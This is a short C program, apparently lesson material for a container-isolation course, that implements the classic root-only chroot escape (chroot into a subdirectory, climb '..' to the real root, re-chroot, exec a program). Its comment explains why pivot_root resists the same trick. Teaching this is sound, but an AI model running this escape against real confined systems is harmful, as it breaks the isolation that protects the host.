/* breakout: the classic chroot escape, for lesson 03. Run as root inside a chroot:
 * chroot(2) into a subdirectory WITHOUT changing the working directory, which is then outside
 * the new root; ".." from there is never clamped at any root, so climbing up reaches the real
 * "/"; chroot(".") there makes it the root again. Then exec argv[1..].
 * Against pivot_root (hull) the same climb ends at the container's root: the host's root is not
 * in the container's mount namespace at all. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: breakout PROGRAM [ARGS...]\n");
		return 2;
	}
	mkdir(".breakout", 0700);
	if (chroot(".breakout") != 0) { /* cwd stays where it was: outside the new root */
		perror("chroot .breakout");
		return 1;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") != 0)
			break;
	if (chroot(".") != 0) {
		perror("chroot .");
		return 1;
	}
	execv(argv[1], argv + 1);
	perror(argv[1]);
	return 127;
}
